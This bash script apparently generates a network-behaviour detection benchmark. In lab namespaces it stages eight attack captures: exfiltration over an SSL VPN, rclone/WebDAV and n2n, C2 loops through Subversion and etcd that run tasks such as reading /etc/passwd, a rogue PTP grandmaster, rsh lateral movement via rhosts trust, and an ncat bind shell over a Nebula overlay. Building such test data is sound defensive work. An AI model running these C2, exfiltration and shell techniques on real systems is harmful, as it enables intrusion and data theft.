#!/usr/bin/env bash
# A NINETEENTH fresh attack set ("f19-*"): tunnels, dead drops, file protocols and LAN services no earlier set used,
# most of them low and slow or speaking what offices, plants and cloud deployments already carry (an SSL VPN, PTP,
# WebDAV, Subversion, rsh, etcd, an overlay VPN, a peer-to-peer VPN).
# Made with real packaged tools between network namespaces (no helper program: every far end is a packaged server).
#   f19-openconnect-vpn-out  an SSL VPN out of the device to the operator's ocserv on the internet (openconnect, the
#                            AnyConnect protocol: TLS on tcp/443, then DTLS on udp/443), loot sent through the tunnel
#   f19-ptp-rogue-gm-lan     a rogue PTP grandmaster on a LAN whose hosts keep time with PTP (linuxptp ptp4l, udp/319
#                            and 320 multicast): the device announces a better clock (priority1 0, class 6) and a
#                            wrong UTC offset, and the neighbours' ptp4l take it as their master
#   f19-rclone-webdav-exfil  exfiltration with rclone to an internet WebDAV server (nginx dav + dav_ext, HTTPS, basic
#                            auth), throttled to 40 kB/s, the folder listed and a second batch copied 25 s later
#   f19-svn-c2               a C2 through an internet Subversion server (svnserve, tcp/3690): the device checks out
#                            the operator's repository, updates it every 8-14 s for a task, commits each task's output
#   f19-rsh-lateral-lan      lateral movement with rsh (rsh-redone) to a neighbour's in.rshd (inetd, tcp/514; rhosts
#                            trust): 7 commands, 4-9 s apart, each with rshd's stderr connection back to the device
#   f19-etcd-deaddrop-c2     etcd as a C2 dead drop: the operator's etcd on the internet (tcp/2379, gRPC), the device
#                            polls a task key with etcdctl every 8-14 s and puts each task's output under its own key
#   f19-nebula-shell-in      a Nebula overlay (udp/4242, the lighthouse on the internet): the device joins it and its
#                            shell listens on the overlay address; the operator on the lighthouse uses it
#   f19-n2n-vpn-exfil        an n2n peer-to-peer VPN (edge and supernode, udp/7654 to the internet): the device's edge
#                            joins the operator's community, its loot sent to the operator's edge through it
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f19-*, veths f19p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.121.x). Each id's servers are started before its capture and stopped after. Every tool runs under
# `timeout`, every loop is bounded; namespaces are removed on exit. The device is always the lab's attacker namespace
# (role attacker).
#
# Tools (Debian): ocserv openconnect linuxptp rclone nginx libnginx-mod-http-dav-ext apache2-utils subversion
#   rsh-redone-client rsh-redone-server openbsd-inetd etcd-server etcd-client nebula n2n ncat iproute2 tcpdump
#   wireshark-common bc openssl
#
# Usage: bash bench/behavior/fresh19/gen-fresh19.sh [--out DIR (default /work/behavior-bench-fresh19)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh19
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f19 GEN=gen-fresh19
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
victim_arp_names_lan
sleep 1

# ---------- "internet" hosts ----------
# .121.2 ocserv, .121.3 the WebDAV server, .121.4 svnserve, .121.5 etcd, .121.6 the Nebula lighthouse,
# .121.7 the n2n supernode
internet_hosts 10.128.121.2 10.128.121.3 10.128.121.4 10.128.121.5 10.128.121.6 10.128.121.7
export NET VIC_IP ATT_IP W PY HERE LAB
lab_tls_cert vpn.example

mkdir -p "$W/loot"
head -c 900000 /dev/urandom > "$W/loot/flash-dump.bin"
head -c 400000 /dev/urandom > "$W/loot/rec-0412.bin"
head -c 250000 /dev/urandom > "$W/loot/rec-0413.bin"
head -c 40000 /dev/urandom > "$W/loot/config.bin"

# ---------- 1. an SSL VPN out of the device to the operator's ocserv ----------
if want f19-openconnect-vpn-out; then
  O="$W/ocserv"; rm -rf "$O"; mkdir -p "$O"
  printf 'Vpn-7f3a!\nVpn-7f3a!\n' | ocpasswd -c "$O/passwd" cam7f3a
  chmod 644 "$O/passwd"
  cat > "$O/ocserv.conf" <<EOF
auth = "plain[passwd=$O/passwd]"
listen-host = 10.128.121.2
tcp-port = 443
udp-port = 443
run-as-user = nobody
run-as-group = nogroup
socket-file = $O/ocserv.sock
server-cert = $W/tls.crt
server-key = $W/tls.key
isolate-workers = false
max-clients = 4
max-same-clients = 2
keepalive = 300
dpd = 60
mobile-dpd = 300
switch-to-tcp-timeout = 25
try-mtu-discovery = false
tls-priorities = "NORMAL:%SERVER_PRECEDENCE"
auth-timeout = 240
cookie-timeout = 300
deny-roaming = false
rekey-time = 172800
rekey-method = ssl
use-occtl = false
pid-file = $O/ocserv.pid
device = vpns
predictable-ips = true
ipv4-network = 192.168.77.0
ipv4-netmask = 255.255.255.0
ping-leases = false
route = 192.168.77.0/255.255.255.0
EOF
  srv vic 200 ocserv -f -d 1 -c "$O/ocserv.conf"
  OC_PID=$BG
  wait_tcp vic 10.128.121.2 443
  # the operator's drop inside the tunnel (ncat on all the server's addresses; the device reaches it as 192.168.77.1)
  srv vic 200 ncat -l -k -p 9000 -o "$O/drop.bin"
  NC_PID=$BG
  PIN=$(openssl x509 -in "$W/tls.crt" -pubkey -noout | openssl pkey -pubin -outform der | openssl dgst -sha256 -binary | base64)
  cat > "$O/tun-script.sh" <<'EOS'
#!/bin/sh
# openconnect's interface script, reduced to the address and the route (no DNS: the lab has none)
case "$reason" in
  connect) ip link set dev "$TUNDEV" up mtu "${INTERNAL_IP4_MTU:-1300}"
           ip addr add "$INTERNAL_IP4_ADDRESS/32" dev "$TUNDEV"
           ip route replace 192.168.77.0/24 dev "$TUNDEV" ;;
esac
exit 0
EOS
  chmod 755 "$O/tun-script.sh"
  cat > "$W/ocvpn.sh" <<EOS
# the device: the VPN up (password on stdin), then through it a listing of the drop's host and 3 files 10-18 s apart
O="$O"
printf 'Vpn-7f3a!\n' | timeout 110 openconnect --protocol=anyconnect --user=cam7f3a --passwd-on-stdin --non-inter \
  --servercert "pin-sha256:$PIN" --script "\$O/tun-script.sh" --useragent "AnyConnect Linux_64 4.10.07061" \
  https://10.128.121.2/ > "\$O/client.log" 2>&1 &
VP=\$!
sleep 12
ping -c 3 -i 2 192.168.77.1 > "\$O/ping.out" 2>&1 || true
sleep 5
for f in config.bin rec-0412.bin flash-dump.bin; do
  timeout 30 ncat --send-only 192.168.77.1 9000 < "\$W/loot/\$f" >> "\$O/send.out" 2>&1 || true
  sleep \$((10 + RANDOM % 9))
done
sleep 15
kill -INT \$VP 2>/dev/null; wait \$VP 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.121.2 cap f19-openconnect-vpn-out exfil openconnect-anyconnect+ocserv-tls-dtls attacker public \
    false 130 bash "$W/ocvpn.sh"
  stopbg "$NC_PID"; stopbg "$OC_PID"
  echo "openconnect: DTLS $(grep -ci 'dtls.*connected\|Established DTLS' "$O/client.log" 2>/dev/null); drop got $(stat -c %s "$O/drop.bin" 2>/dev/null || echo 0) bytes" >&2
fi

# ---------- 2. a rogue PTP grandmaster on the LAN ----------
if want f19-ptp-rogue-gm-lan; then
  P="$W/ptp"; rm -rf "$P"; mkdir -p "$P"
  # every clock here is free running: ptp4l measures and follows but never steps the (shared) system clock
  common() { printf '[global]\nfree_running 1\ntime_stamping software\nnetwork_transport UDPv4\nlogAnnounceInterval 1\nlogSyncInterval 0\nuds_address %s\n' "$1"; }
  { common "$P/d31.sock"; printf 'priority1 128\nclockClass 248\n'; } > "$P/d31.cfg"
  for d in 32 33 34; do { common "$P/d$d.sock"; printf 'slaveOnly 1\n'; } > "$P/d$d.cfg"; done
  # the rogue: the best clock on the LAN (priority1 0, class 6 "locked to a primary reference"), a GPS time source,
  # and a UTC offset of 0 s where it is 37 s
  { common "$P/att.sock"; printf 'priority1 0\npriority2 0\nclockClass 6\nclockAccuracy 0x20\nutc_offset 0\ntimeSource 0x20\n'; } > "$P/att.cfg"
  srv d31 170 ptp4l -f "$P/d31.cfg" -i eth0 -m
  PT_PIDS=("$BG")
  for d in 32 33 34; do srv "d$d" 170 ptp4l -f "$P/d$d.cfg" -i eth0 -m; PT_PIDS+=("$BG"); done
  sleep 8
  cat > "$W/ptp.sh" <<'EOS'
# the device: 10 s of the LAN's own PTP, then its ptp4l as the grandmaster for 80 s
sleep 10
timeout 80 ptp4l -f "$W/ptp/att.cfg" -i eth0 -m > "$W/ptp/att.log" 2>&1 || true
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f19-ptp-rogue-gm-lan lateral ptp4l-rogue-grandmaster attacker lan \
    false 100 bash "$W/ptp.sh"
  for p in "${PT_PIDS[@]}"; do stopbg "$p"; done
  echo "ptp: neighbours that took the rogue's clock: $(grep -l 'new foreign master 026600.fffe.000010\|selected best master clock 026600.fffe.000010' "$W"/bg-d3*.log 2>/dev/null | wc -l)" >&2
fi

# ---------- 3. exfiltration with rclone to an internet WebDAV server ----------
if want f19-rclone-webdav-exfil; then
  D="$W/dav"; rm -rf "$D"; mkdir -p "$D/www/bk" "$D/tmp"
  htpasswd -bc "$D/htpasswd" cam7f3a 'Dav-7f3a' >/dev/null 2>&1
  cat > "$D/nginx.conf" <<EOF
load_module /usr/lib/nginx/modules/ngx_http_dav_ext_module.so;
user root;
worker_processes 1;
pid $D/nginx.pid;
error_log $D/error.log warn;
events { worker_connections 64; }
http {
  access_log $D/access.log;
  client_body_temp_path $D/tmp/body; proxy_temp_path $D/tmp/proxy; fastcgi_temp_path $D/tmp/fcgi;
  uwsgi_temp_path $D/tmp/uwsgi; scgi_temp_path $D/tmp/scgi;
  client_max_body_size 50m;
  server {
    listen 10.128.121.3:443 ssl;
    server_name files.example;
    ssl_certificate $W/tls.crt;
    ssl_certificate_key $W/tls.key;
    root $D/www;
    location / {
      auth_basic "files"; auth_basic_user_file $D/htpasswd;
      dav_methods PUT DELETE MKCOL COPY MOVE;
      dav_ext_methods PROPFIND OPTIONS;
      create_full_put_path on;
      dav_access user:rw group:rw all:r;
      autoindex on;
    }
  }
}
EOF
  srv vic 200 nginx -c "$D/nginx.conf" -g 'daemon off;'
  NG_PID=$BG
  wait_tcp vic 10.128.121.3 443
  mkdir -p "$D/dev-a" "$D/dev-b"
  cp "$W/loot/config.bin" "$W/loot/rec-0412.bin" "$W/loot/flash-dump.bin" "$D/dev-a/"
  cp "$W/loot/rec-0413.bin" "$D/dev-b/"
  OBS=$(rclone obscure 'Dav-7f3a')
  cat > "$D/rclone.conf" <<EOF
[drop]
type = webdav
url = https://10.128.121.3/bk
vendor = other
user = cam7f3a
pass = $OBS
EOF
  cat > "$W/rclone.sh" <<'EOS'
# the device: the drop listed, the loot copied at 40 kB/s, the drop listed again, a new recording copied 25 s later
D="$W/dav"; R="rclone --config $D/rclone.conf --no-check-certificate --transfers 1 --bwlimit 40k -q"
timeout 20 $R lsf drop: > "$D/ls1.out" 2>&1 || true
sleep 4
timeout 70 $R copy "$D/dev-a" drop:cam7f3a > "$D/copy1.out" 2>&1 || true
sleep 5
timeout 20 $R lsf -R drop: > "$D/ls2.out" 2>&1 || true
sleep 25
timeout 40 $R copy "$D/dev-b" drop:cam7f3a > "$D/copy2.out" 2>&1 || true
EOS
  CAP_VIC_IP=10.128.121.3 cap f19-rclone-webdav-exfil exfil rclone-webdav-https+nginx-dav attacker public false 140 \
    bash "$W/rclone.sh"
  stopbg "$NG_PID"
  echo "rclone: the drop holds $(ls "$D/www/bk/cam7f3a" 2>/dev/null | tr '\n' ' ')" >&2
fi

# ---------- 4. a C2 through an internet Subversion server ----------
if want f19-svn-c2; then
  S="$W/svn"; rm -rf "$S"; mkdir -p "$S"
  svnadmin create "$S/repo"
  cat > "$S/repo/conf/svnserve.conf" <<'EOF'
[general]
anon-access = none
auth-access = write
password-db = passwd
realm = ops
EOF
  printf '[users]\ncam7f3a = Svn-7f3a\nop = Op-9x\n' > "$S/repo/conf/passwd"
  srv vic 200 svnserve -d --foreground -r "$S/repo" --listen-host 10.128.121.4 --listen-port 3690
  SV_PID=$BG
  wait_tcp vic 10.128.121.4 3690
  # the operator's repository: a task file and a results folder
  OPSVN="svn --non-interactive --no-auth-cache --username op --password Op-9x"
  ns vic $OPSVN checkout -q svn://10.128.121.4/ "$S/op" >/dev/null
  mkdir -p "$S/op/results"; echo "id" > "$S/op/task.txt"
  ns vic $OPSVN add -q "$S/op/results" "$S/op/task.txt"
  ns vic $OPSVN commit -q -m "init" "$S/op" >/dev/null
  # the operator's next tasks, committed while the device polls (from the server's host: not on the device's link)
  ip netns exec "$LAB-vic" timeout 150 bash -c "
    for t in 'uname -a' 'cat /proc/net/arp' 'ls -la /mnt /tmp' 'cat /etc/passwd'; do
      sleep 22; echo \"\$t\" > '$S/op/task.txt'
      $OPSVN update -q '$S/op' >/dev/null 2>&1; $OPSVN commit -q -m tasks '$S/op' >/dev/null 2>&1
    done" >>"$W/bg-vic.log" 2>&1 &
  OPT_PID=$!; PIDS+=("$OPT_PID")
  cat > "$W/svn.sh" <<'EOS'
# the device: checks out the repository, then every 8-14 s an update; a new task is run and its output committed
S="$W/svn"; V="svn --non-interactive --no-auth-cache --username cam7f3a --password Svn-7f3a"
timeout 20 $V checkout -q svn://10.128.121.4/ "$S/dev" > "$S/dev.out" 2>&1 || true
last=""; n=0
for i in $(seq 1 12); do
  [ $SECONDS -lt 110 ] || break
  timeout 20 $V update -q "$S/dev" >> "$S/dev.out" 2>&1 || true
  t=$(cat "$S/dev/task.txt" 2>/dev/null)
  if [ -n "$t" ] && [ "$t" != "$last" ]; then
    last="$t"; n=$((n + 1))
    sh -c "$t" > "$S/dev/results/cam7f3a-$n.txt" 2>&1 || true
    timeout 10 $V add -q "$S/dev/results/cam7f3a-$n.txt" >> "$S/dev.out" 2>&1 || true
    timeout 20 $V commit -q -m "r$n" "$S/dev" >> "$S/dev.out" 2>&1 || true
  fi
  sleep $((8 + RANDOM % 7))
done
EOS
  CAP_VIC_IP=10.128.121.4 cap f19-svn-c2 c2 svn-checkout-update-commit+svnserve attacker public false 130 bash "$W/svn.sh"
  stopbg "$OPT_PID"; stopbg "$SV_PID"
  echo "svn: results committed: $(svnlook tree "$S/repo" 2>/dev/null | grep -c 'cam7f3a-')" >&2
fi

# ---------- 5. lateral movement with rsh to a neighbour's in.rshd ----------
if want f19-rsh-lateral-lan; then
  H="$W/rsh"; rm -rf "$H"; mkdir -p "$H/root"
  # the neighbour trusts the device by rhosts (as old plant and lab hosts do): root's .rhosts in a private mount
  # namespace over /root, so the machine's own /root is not touched
  # (and the plant's hosts file, as its DNS would: in.rshd looks the client's name up and ends without one)
  printf 'cam-7f3a root\n10.66.0.10 root\n' > "$H/root/.rhosts"; chmod 600 "$H/root/.rhosts"
  { cat /etc/hosts; printf '10.66.0.10 cam-7f3a\n10.66.0.32 hmi-02\n'; } > "$H/hosts"
  printf 'shell\tstream\ttcp\tnowait\troot\t/usr/sbin/in.rshd\tin.rshd\n' > "$H/inetd.conf"
  ip netns exec "$LAB-d32" timeout 150 unshare -m sh -c \
    "mount --bind '$H/root' /root && mount --bind '$H/hosts' /etc/hosts && exec /usr/sbin/inetd -d '$H/inetd.conf'" \
    >>"$W/bg-d32.log" 2>&1 &
  RS_PID=$!; PIDS+=("$RS_PID")
  wait_tcp d32 "$NET.32" 514
  cat > "$W/rsh.sh" <<'EOS'
# the device: 7 commands on the neighbour with rsh (root, trusted by rhosts), 4-9 s apart
for c in "id" "uname -a" "cat /proc/net/arp" "ip -4 addr" "ps ax | head -20" "cat /etc/passwd" "ls -la /tmp /var/tmp"; do
  timeout 15 rsh -l root 10.66.0.32 "$c" >> "$W/rsh/dev.out" 2>&1 || true
  sleep $((4 + RANDOM % 6))
done
EOS
  CAP_VIC_IP=$NET.32 CAP_VIC_MAC=02:66:00:00:00:32 cap f19-rsh-lateral-lan lateral rsh-redone+inetd-in.rshd-rhosts \
    attacker lan false 110 bash "$W/rsh.sh"
  stopbg "$RS_PID"
  echo "rsh: uid=0 answers: $(grep -c 'uid=0' "$H/dev.out" 2>/dev/null)" >&2
fi

# ---------- 6. etcd as a C2 dead drop ----------
if want f19-etcd-deaddrop-c2; then
  E="$W/etcd"; rm -rf "$E"; mkdir -p "$E"
  srv vic 200 etcd --name ops --data-dir "$E/data" --listen-client-urls http://10.128.121.5:2379 \
    --advertise-client-urls http://10.128.121.5:2379 --listen-peer-urls http://127.0.0.1:2380 \
    --initial-advertise-peer-urls http://127.0.0.1:2380 --initial-cluster ops=http://127.0.0.1:2380 --log-level warn
  ET_PID=$BG
  wait_tcp vic 10.128.121.5 2379
  export ETCDCTL_API=3
  OPE="timeout 10 etcdctl --endpoints=http://10.128.121.5:2379"
  ns vic $OPE put /fleet/cam7f3a/task "id" >/dev/null
  ip netns exec "$LAB-vic" timeout 150 bash -c "
    for t in 'uname -a' 'cat /proc/net/arp' 'ip -4 route' 'cat /etc/passwd'; do
      sleep 20; $OPE put /fleet/cam7f3a/task \"\$t\" >/dev/null
    done" >>"$W/bg-vic.log" 2>&1 &
  OPE_PID=$!; PIDS+=("$OPE_PID")
  cat > "$W/etcd.sh" <<'EOS'
# the device: every 8-14 s a get of its task key; a new task is run and its output put under its own key
export ETCDCTL_API=3
C="etcdctl --endpoints=http://10.128.121.5:2379 --dial-timeout=5s --command-timeout=8s"
last=""; n=0
for i in $(seq 1 12); do
  [ $SECONDS -lt 105 ] || break
  t=$(timeout 10 $C get --print-value-only /fleet/cam7f3a/task 2>>"$W/etcd/dev.err")
  if [ -n "$t" ] && [ "$t" != "$last" ]; then
    last="$t"; n=$((n + 1))
    sh -c "$t" 2>&1 | head -c 6000 | timeout 10 $C put "/fleet/cam7f3a/out/$n" >> "$W/etcd/dev.out" 2>&1 || true
  fi
  sleep $((8 + RANDOM % 7))
done
EOS
  CAP_VIC_IP=10.128.121.5 cap f19-etcd-deaddrop-c2 c2 etcdctl-get-put+etcd-grpc attacker public false 125 bash "$W/etcd.sh"
  stopbg "$OPE_PID"
  echo "etcd: outputs stored: $(ns vic $OPE get --keys-only --prefix /fleet/cam7f3a/out/ 2>/dev/null | grep -c out/)" >&2
  stopbg "$ET_PID"
fi

# ---------- 7. a Nebula overlay: the device's shell reached through the operator's lighthouse ----------
if want f19-nebula-shell-in; then
  N="$W/nebula"; rm -rf "$N"; mkdir -p "$N"
  (cd "$N" && nebula-cert ca -name "ops" -duration 720h >/dev/null &&
    nebula-cert sign -name lighthouse -ip 192.168.100.1/24 >/dev/null &&
    nebula-cert sign -name cam7f3a -ip 192.168.100.10/24 >/dev/null)
  neb_conf() { # NAME LIGHTHOUSE(true/false) LISTEN-ADDRESS LISTEN-PORT DEV
    cat <<EOF
pki: { ca: $N/ca.crt, cert: $N/$1.crt, key: $N/$1.key }
static_host_map: { "192.168.100.1": ["10.128.121.6:4242"] }
lighthouse: { am_lighthouse: $2, interval: 30, hosts: [$( [ "$2" = true ] || echo '"192.168.100.1"' )] }
listen: { host: $3, port: $4 }
punchy: { punch: true }
relay: { am_relay: false, use_relays: false }
tun: { disabled: false, dev: $5, mtu: 1300 }
logging: { level: info, format: text }
firewall:
  outbound: [ { port: any, proto: any, host: any } ]
  inbound: [ { port: any, proto: any, host: any } ]
EOF
  }
  neb_conf lighthouse true 10.128.121.6 4242 neb-op > "$N/lighthouse.yml"
  neb_conf cam7f3a false 0.0.0.0 0 neb0 > "$N/dev.yml"
  srv vic 200 nebula -config "$N/lighthouse.yml"
  NB_PID=$BG
  sleep 3
  cat > "$W/nebula.sh" <<'EOS'
# the device: joins the overlay, its shell listening on the overlay address only; the operator on the lighthouse
# connects to it through the overlay twice and types commands 3-8 s apart
N="$W/nebula"
timeout 110 nebula -config "$N/dev.yml" > "$N/dev.log" 2>&1 &
sleep 6
timeout 100 ncat -l -k 192.168.100.10 4444 -e /bin/sh > "$N/shell.log" 2>&1 &
sleep 4
ip netns exec "$LAB-vic" timeout 90 bash -c '
  for s in 1 2; do
    { for c in "id" "uname -a" "cat /proc/net/arp" "ls -la /mnt /tmp" "cat /etc/passwd" "ip -4 route"; do
        echo "$c"; sleep $((3 + RANDOM % 6)); done; } | timeout 45 ncat 192.168.100.10 4444 >> '"$N"'/op.out 2>&1
    sleep 8
  done' || true
sleep 2
kill %1 %2 2>/dev/null; wait 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.121.6 cap f19-nebula-shell-in c2 nebula-overlay+ncat-shell-on-overlay attacker public false 125 \
    bash "$W/nebula.sh"
  stopbg "$NB_PID"
  kill_in att nebula; kill_in att ncat
  echo "nebula: uid=0 answers through the overlay: $(grep -c 'uid=0' "$N/op.out" 2>/dev/null)" >&2
fi

# ---------- 8. an n2n peer-to-peer VPN: the device's edge joins the operator's community ----------
if want f19-n2n-vpn-exfil; then
  V="$W/n2n"; rm -rf "$V"; mkdir -p "$V"
  # supernode and edge bind every address: their datagrams to the device leave from the supernode's internet address
  # by the route's source address (the victim's ARP still names its LAN address: arp_announce 2)
  ns vic ip route replace "$ATT_IP/32" dev eth0 src 10.128.121.7
  srv vic 200 supernode -l 7654 -v
  SN_PID=$BG
  sleep 1
  # the operator's edge on the supernode's host (its datagrams stay off the device's link) and its drop on the VPN
  srv vic 200 edge -a 10.9.0.1 -c ops7 -k 'N2n-7f3a' -d n2n-op -l 10.128.121.7:7654 -s 255.255.255.0
  OE_PID=$BG
  sleep 3
  srv vic 200 ncat -l -k 10.9.0.1 9001 -o "$V/drop.bin"
  ND_PID=$BG
  cat > "$W/n2n.sh" <<'EOS'
# the device: its edge joins the community (udp/7654 to the supernode), then 3 files to the operator's edge 10-18 s
# apart through the VPN
V="$W/n2n"
timeout 110 edge -a 10.9.0.10 -c ops7 -k 'N2n-7f3a' -d n2n0 -l 10.128.121.7:7654 -s 255.255.255.0 > "$V/dev.log" 2>&1 &
sleep 10
ping -c 3 -i 2 10.9.0.1 > "$V/ping.out" 2>&1 || true
for f in config.bin rec-0412.bin rec-0413.bin; do
  timeout 40 ncat --send-only 10.9.0.1 9001 < "$W/loot/$f" >> "$V/send.out" 2>&1 || true
  sleep $((10 + RANDOM % 9))
done
sleep 10
kill %1 2>/dev/null; wait 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.121.7 cap f19-n2n-vpn-exfil exfil n2n-edge+supernode-udp7654 attacker public false 125 bash "$W/n2n.sh"
  stopbg "$ND_PID"; stopbg "$OE_PID"; stopbg "$SN_PID"
  ns vic ip route del "$ATT_IP/32" dev eth0 || true
  kill_in att edge
  echo "n2n: the drop got $(stat -c %s "$V/drop.bin" 2>/dev/null || echo 0) bytes" >&2
fi

lab_index
